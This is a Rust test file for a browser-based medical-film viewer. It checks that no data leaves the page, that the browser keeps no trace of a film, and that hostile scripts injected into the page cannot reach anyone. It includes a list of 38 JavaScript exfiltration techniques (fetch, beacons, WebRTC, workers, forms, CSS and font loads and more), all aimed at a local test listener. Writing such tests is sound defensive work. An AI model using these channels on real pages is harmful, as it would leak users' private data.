//! Nothing leaves the page: neither by itself, nor by a hostile script in it, nor by what the browser keeps.
#![allow(
    clippy::unwrap_used,
    reason = "helpers of tests fail by panicking, as tests do"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::json;
use tests::browser::{Browser, SOON, WebGpu};
use tests::bystander::Listener;
use tests::site::{Site, places};
use tests::visit::Visit;
use tests::{netlog, profile, real_films};

/// What a film or a map may take on a slow machine.
const LIMIT: Duration = Duration::from_mins(10);

/// Ways out of a page, by the names that `SECURITY.md` has for those that no page can close: a script in which
/// `there` is an address of the listener whose path is that name.
const WAYS_OUT: [(&str, &str); 38] = [
    ("fetch", "await fetch(there)"),
    ("fetch without CORS", "await fetch(there, { mode: 'no-cors', method: 'POST', body: 'film' })"),
    ("fetch that outlives the page", "await fetch(there, { keepalive: true })"),
    ("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', there); x.send(); await later()"),
    ("WebSocket", "new WebSocket(there.replace('http', 'ws')); await later()"),
    ("EventSource", "new EventSource(there); await later()"),
    ("beacon", "navigator.sendBeacon(there, 'film')"),
    ("WebTransport", "await new WebTransport(there.replace('http:', 'https:')).ready"),
    ("WebRTC", "const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        peer.createDataChannel('film'); await peer.setLocalDescription(await peer.createOffer()); await later(); peer.close()"),
    ("image", "new Image().src = there; await later()"),
    ("icon", "add('link', { rel: 'icon', href: there }); await later()"),
    ("prefetch", "add('link', { rel: 'prefetch', href: there }); await later()"),
    ("preload", "add('link', { rel: 'preload', as: 'script', href: there }); await later()"),
    ("module preload", "add('link', { rel: 'modulepreload', href: there }); await later()"),
    ("preconnect", "add('link', { rel: 'preconnect', href: there }); await later()"),
    ("DNS prefetch", "add('link', { rel: 'dns-prefetch', href: there }); await later()"),
    ("style sheet", "add('link', { rel: 'stylesheet', href: there }); await later()"),
    ("manifest", "add('link', { rel: 'manifest', href: there }); await later()"),
    ("CSS address", "document.body.style.backgroundImage = `url(${there})`; await later()"),
    ("CSS rule", "const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background: url(${there}) }`);
        document.adoptedStyleSheets = [sheet]; await later()"),
    ("font", "await new FontFace('film', `url(${there})`).load()"),
    ("video", "add('video', { src: there, preload: 'auto' }).load(); await later()"),
    ("object", "add('object', { data: there }); await later()"),
    ("embed", "add('embed', { src: there }); await later()"),
    ("frame", "add('iframe', { src: there }); await later()"),
    ("script", "add('script', { src: there }); await later()"),
    ("module", "await import(there)"),
    ("speculation rules", "add('script', { type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ urls: [there] }] }) }); await later()"),
    ("form", "const form = add('form', { action: there, method: 'post' }); form.submit(); await later()"),
    ("ping", "const link = add('a', { href: '#', ping: there }); link.click(); await later()"),
    ("worker", "new Worker(there); await later()"),
    ("shared worker", "new SharedWorker(there); await later()"),
    ("worker of a blob", "new Worker(URL.createObjectURL(new Blob([`fetch('${there}')`]))); await later()"),
    ("service worker", "await navigator.serviceWorker.register(there)"),
    ("message to the service worker", "navigator.serviceWorker.controller.postMessage({ fetch: there }); await later()"),
    ("federated login", "await navigator.credentials.get({ identity: { providers: [{ configURL: there, clientId: 'film' }] } })"),
    ("payment", "await new PaymentRequest([{ supportedMethods: there }], { total: { label: 'film',
        amount: { currency: 'EUR', value: '1' } } }).canMakePayment()"),
    ("trusted types", "add('div', {}).innerHTML = `<img src='${there}'>`; await later()"),
];

/// What the log says of a connection that is opened ahead of a request, without anything of it.
const PRECONNECT: &str = "\"is_preconnect\":true";

/// What every script of [`WAYS_OUT`] may call.
const TOOLS: &str = "
    const later = () => new Promise(resolve => setTimeout(resolve, 300));
    const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));";

/// Tries a way out; the error that stopped it, if there was one.
fn attempt(visit: &Visit, script: &str, there: &str, port: u16) -> String {
    let attempt = format!(
        "(async () => {{
            const [there, port] = [{}, {port}];
            {TOOLS}
            const tried = (async () => {{ {script} }})().then(() => '', String);
            const timeout = new Promise(resolve => setTimeout(resolve, 3000, ''));
            return Promise.race([tried, timeout]);
        }})()",
        json!(there)
    );
    let stopped = visit.browser.promised(&attempt, &[]);
    stopped.as_str().unwrap_or_default().to_owned()
}

/// Whether `SECURITY.md` names a way that no page can close.
fn is_named(way: &str) -> bool {
    let text = fs::read_to_string(places().root.join("SECURITY.md")).unwrap();
    text.lines()
        .any(|line| line.starts_with(&format!("| {way} |")))
}

/// Opens the page and waits until its service worker guards it.
fn guarded(visit: &Visit) {
    visit.ready();
    visit.cached();
    let guarded = "navigator.serviceWorker.controller !== null";
    assert!(visit.browser.wait(guarded, SOON), "{}", visit.page_text());
}

/// A guarded page in a browser that writes its network log into a folder; the log's path.
fn logged(site: &Site, folder: &Path) -> Option<(Visit, PathBuf)> {
    let log = folder.join("net.json");
    let visit = Visit::start_with(site, "?engine=cpu", WebGpu::Software, Some(&log))?;
    guarded(&visit);
    Some((visit, log))
}

#[test]
fn a_hostile_script_reaches_nobody() {
    let site = Site::shipped();
    let listener = Listener::start();
    let port = listener.port();
    let Some(visit) = Visit::start(&site, "?engine=cpu") else {
        return;
    };
    guarded(&visit);
    let mut open = Vec::new();
    for (way, script) in WAYS_OUT {
        let there = format!("http://127.0.0.1:{port}/");
        let stopped = attempt(&visit, script, &there, port);
        std::thread::sleep(Duration::from_millis(300));
        let heard = listener.heard();
        println!("{way}: heard {}, {stopped}", heard.len());
        if !heard.is_empty() && !is_named(way) {
            open.push(format!("{way}: {heard:?}"));
        }
    }
    assert!(open.is_empty(), "{}", open.join("\n"));
}

#[test]
fn a_hostile_script_cannot_send_anything_to_the_host_either() {
    let site = Site::shipped();
    let folder = tempfile::tempdir().unwrap();
    let Some((visit, log)) = logged(&site, folder.path()) else {
        return;
    };
    for script in [
        "await fetch('leak?film')",
        "await fetch('model/leak?film')",
        "await fetch('model/model.json?leak')",
        "await fetch('model/model.json', { method: 'POST', body: 'leak' })",
        "await fetch('model/model.json', { headers: { leak: 'film' } })",
        "await fetch('model/model.json', { headers: { range: 'bytes=70764-' } })",
        "await fetch('./?leak')",
        "new Image().src = 'leak'; await later()",
        "navigator.sendBeacon('leak', 'film')",
        "add('iframe', { src: './?leak' }); await later()",
        "await import('./leak.js')",
        "new Worker('leak.js'); await later()",
    ] {
        attempt(&visit, script, "", 0);
    }
    let before = visit.requests();
    let asks = "await fetch('model/model.json')";
    assert_eq!(
        attempt(&visit, asks, "", 0),
        "",
        "the model's files can be fetched"
    );
    let counted = format!(
        "document.querySelector('[data-testid=requests-since-load]').innerText === '{}'",
        before + 1
    );
    assert!(visit.browser.wait(&counted, SOON), "a request is counted");
    visit.browser.quit();
    let log = fs::read_to_string(&log).unwrap();
    let leaks: Vec<&str> = log
        .lines()
        .filter(|line| line.contains("leak") && !line.contains(PRECONNECT))
        .collect();
    assert!(leaks.is_empty(), "{leaks:?}");
}

#[test]
fn a_whole_visit_reaches_nobody() {
    let site = Site::shipped();
    let folder = tempfile::tempdir().unwrap();
    let Some((visit, log)) = logged(&site, folder.path()) else {
        return;
    };
    let ready = netlog::now();
    everything(&visit);
    visit.browser.quit();
    // The browser asks for its own purposes, too: whether it may fill in a form, and whether there is a newer
    // service worker.
    let origin = site.origin();
    let update = site.address("sw.js");
    let after: Vec<_> = netlog::read(&log)
        .into_iter()
        .filter(|request| request.at > ready && request.initiator == origin)
        .map(|request| request.url)
        .filter(|url| *url != update)
        .collect();
    assert!(after.is_empty(), "{after:?}");
    let log = fs::read_to_string(&log).unwrap();
    let name = real_films::bundled()[0].name();
    assert!(!log.contains(&name), "the log has the film's name");
}

/// Uses all that the page has with a film: answer, map, batch, reading blind, report, other pages, print.
fn everything(visit: &Visit) {
    let film = &real_films::bundled()[0];
    visit.drop_files(&[(&film.name(), &film.bytes())]);
    visit.shown();
    visit.explain();
    let batch = real_films::bundled();
    visit.drop_films(&batch);
    visit.films(1 + batch.len(), LIMIT);
    visit.saved("export-csv");
    visit.click("report");
    visit.wait_for("document.querySelector('[data-testid=report-sheet]') !== null");
    visit.browser.script("window.print = () => {}", &[]);
    visit.click("report-print");
    visit.click("report-close");
    visit.click("blind");
    visit.wait_for("document.querySelector('[data-testid=reader]') !== null");
    visit.key("n");
    visit.key("s");
    visit.wait_for("document.querySelector('[data-testid=reader-said]') !== null");
    for page in ["model", "privacy", "diagnosis", "films"] {
        visit
            .browser
            .script("location.hash = arguments[0]", &[json!(page)]);
        std::thread::sleep(Duration::from_millis(300));
    }
}

/// A DICOM film whose header has words that occur nowhere else.
fn marked_film() -> Vec<u8> {
    let mut films = real_films::dicom().into_iter();
    let film = films
        .find(|film| film.name() == "px_signed_12.dcm")
        .unwrap();
    let mut bytes = film.bytes();
    let name = b"TEST^FILM";
    let at = bytes
        .windows(name.len())
        .position(|window| window == name)
        .unwrap();
    bytes[at..at + name.len()].copy_from_slice(b"ZYXW^QUOR");
    bytes
}

#[test]
fn the_browser_keeps_nothing_of_a_film() {
    let site = Site::shipped();
    let folder = tempfile::tempdir().unwrap();
    let Some(browser) = Browser::start_in(folder.path(), false) else {
        return;
    };
    browser.open(&site.address("?engine=cpu"));
    let visit = Visit { browser };
    guarded(&visit);
    let bytes = marked_film();
    visit.drop_files(&[("Grobnitz-4711.dcm", &bytes)]);
    visit.shown();
    visit.browser.script(
        "document.querySelector('[data-testid=explain] button')?.click()",
        &[],
    );
    std::thread::sleep(Duration::from_secs(3));
    visit.browser.open("about:blank");
    visit.browser.quit();
    let pixels = &bytes[bytes.len() / 2..][..64];
    let words: [&[u8]; 3] = [b"ZYXW^QUOR", b"Grobnitz-4711", pixels];
    let found = profile::search(folder.path(), &words);
    assert!(found.is_empty(), "{found:?}");
}
